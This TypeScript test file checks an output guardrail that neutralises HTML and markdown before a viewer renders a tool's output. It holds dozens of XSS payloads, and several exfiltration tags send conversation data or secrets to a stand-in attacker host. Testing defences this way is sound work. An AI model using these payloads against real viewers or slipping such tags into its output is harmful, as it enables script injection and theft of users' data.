// The threat: what a tool hands over is shown to somebody, in a viewer that runs what is in it.
import { type Test, test } from "tap";
import { defuse } from "../../guardrails/output/defuse.ts";
import { attacker, doneBy, doneByMarkdown } from "./output-viewers.ts";

const url = `https://${attacker}`;

/** What makes a browser do something else than show it. */
const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script/x>alert(1)</script>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img src=x OnErRoR = 'alert(1)'>",
  '<img src="x"onerror="alert(1)">',
  "<img/src=x onerror=alert(1)/>",
  "<img src=x\u000conerror=alert(1)>",
  "<img src=x onerror\n=\nalert(1)>",
  "<img src='>' onerror=alert(1)>",
  '<img src=">" onerror=alert(1)>',
  "<img src=x a=`b onerror=alert(1)//`>",
  "<img ===x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//>",
  "<body onload=alert(1)>x",
  "<details open ontoggle=alert(1)>x</details>",
  "<x onclick=alert(1)>press</x>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<a href=javascript:alert(1)>x</a>",
  '<a href=" &#1;JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  "<a href=vbscript:msgbox(1)>x</a>",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
  "<form action=javascript:alert(1)><input type=submit></form>",
  `<form action=${url}><input name=password></form>`,
  "<button formaction=javascript:alert(1)>x</button>",
  `<iframe src=${url}></iframe>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=data:text/html,x></object>",
  "<embed src=javascript:alert(1)>",
  `<base href=${url}/>`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<meta content="0;url=${url}" http-equiv=" Refresh ">`,
  `<link rel=stylesheet href=${url}/x.css>`,
  `<style>@import "${url}/x.css";</style>`,
  `<style>@\\69mport "${url}/x.css";</style>`,
  `<style></p>@import "${url}/x.css";</style>`,
  `<svg><style>&#64;import "${url}/x.css";</style></svg>`,
  `<style>input[value^=a]{background:url(${url}/a)}</style>`,
  "<p style='width:expression(alert(1))'>x</p>",
  "<p style='-moz-binding:url(//evil.example/x)'>x</p>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><animate attributeName=href values='x;javascript:alert(1)'/></svg>",
  "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
  "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  `<a href=x ping=${url}>x</a>`,
  // What stands around a tag says nothing of what a parser takes it for.
  "<!-- --><script>alert(1)</script><!-- -->",
  "<!--><script>alert(1)</script>-->",
  '<a title="<!--"><script>alert(1)</script>',
  "<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<style><style /><img src=x onerror=alert(1)>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<a <img src=x onerror=alert(1)>",
  "\\<script>alert(1)</script>",
  // What looks like code is none where a parser sees something else.
  "<div>\n```\n<script>alert(1)</script>\n```\n</div>",
  "<pre>\n\n```\n<script>alert(1)</script>\n```\n</pre>",
  '<a title="`"><script>alert(1)</script>"`">',
  "\\`<script>alert(1)</script>`",
  "- ```\n  x\n  ```\n  <script>alert(1)</script>",
  "- a\n  ```\n<script>alert(1)</script>\n  ```",
  "a ` b\nc ` <img src=x onerror=alert(1)> `",
  "[a](`) <img src=x onerror=alert(1)> `",
  "    ```\n<script>alert(1)</script>\n    ```",
  "text\n<b>\n```\nx\n\ny\n```\n<script>alert(1)</script>",
  "<html><body>\n\n```\n<script>alert(1)</script>\n```",
  "<!doctype html>\n\n```\n<script>alert(1)</script>\n```",
];

for (const attack of attacks) {
  test(`attack: a viewer runs nothing of ${JSON.stringify(attack)}`, (t) => {
    t.ok(done(attack).length > 0, "and would otherwise");
    const { text, edits } = defuse(attack);
    t.strictSame(done(text), [], text);
    t.ok(edits.length > 0 && edits.every(({ kind }) => kind.startsWith("active:")));
    t.equal(defuse(text).text, text, "once is enough");
    t.end();
  });
}

function done(text: string): readonly string[] {
  return [...doneBy(text), ...doneByMarkdown(text)];
}

test("attack: a tag that is one only when escapes of a terminal are left out of it runs nothing", (t) => {
  for (const gap of ["\u001b[0m", "\u001b]0;t\u0007", "\u009b0m", "\u001b[0m\u001b(B"]) {
    t.equal(defuse(`<scr${gap}ipt>alert(1)`).text, "&lt;script>alert(1)");
  }
  t.equal(defuse("<scr\u0000ipt>").text, "<scr\\u{0}ipt>");
  t.end();
});

test("attack: a tag without an end is one", (t) => {
  for (const text of ["<img src=x onerror=alert(1)", "<svg onload='alert(1)", "<iframe src=x"]) {
    t.equal(defuse(text).text, `&lt;${text.slice(1)}`);
  }
  t.end();
});

test("tags that carry data out are taken for that", (t: Test) => {
  for (const [text, kind] of [
    [`<img src="${url}/?d={{conversation}}">`, "active:exfil-image"],
    [`<img src=${url}/pixel.gif width=1 height=1>`, "active:exfil-image"],
    [`<img srcset="a.png 1x, ${url}/?q=SECRET 2x">`, "active:exfil-image"],
    [`<p style="background:url('${url}/?q=SECRET')">x</p>`, "active:exfil-image"],
    [`<video poster=//${attacker}/?q=SECRET></video>`, "active:exfil-image"],
    [`<link rel=dns-prefetch href=//aGVyZSBpcyBhbGwgb2YgaXQh.${attacker}>`, "active:exfil-image"],
    [`<link rel=prefetch href=${url}/?q=SECRET>`, "active:exfil-image"],
    [`<svg><image href="${url}/?q=SECRET"/></svg>`, "active:exfil-image"],
    [`<a href="${url}/?d={{conversation}}">x</a>`, "active:exfil-link"],
  ] as const) {
    t.not(doneBy(text).length, 0, text);
    const defused = defuse(text);
    t.strictSame(doneBy(defused.text), [], defused.text);
    t.ok(
      defused.edits.some((edit) => edit.kind === kind),
      text,
    );
  }
  t.end();
});
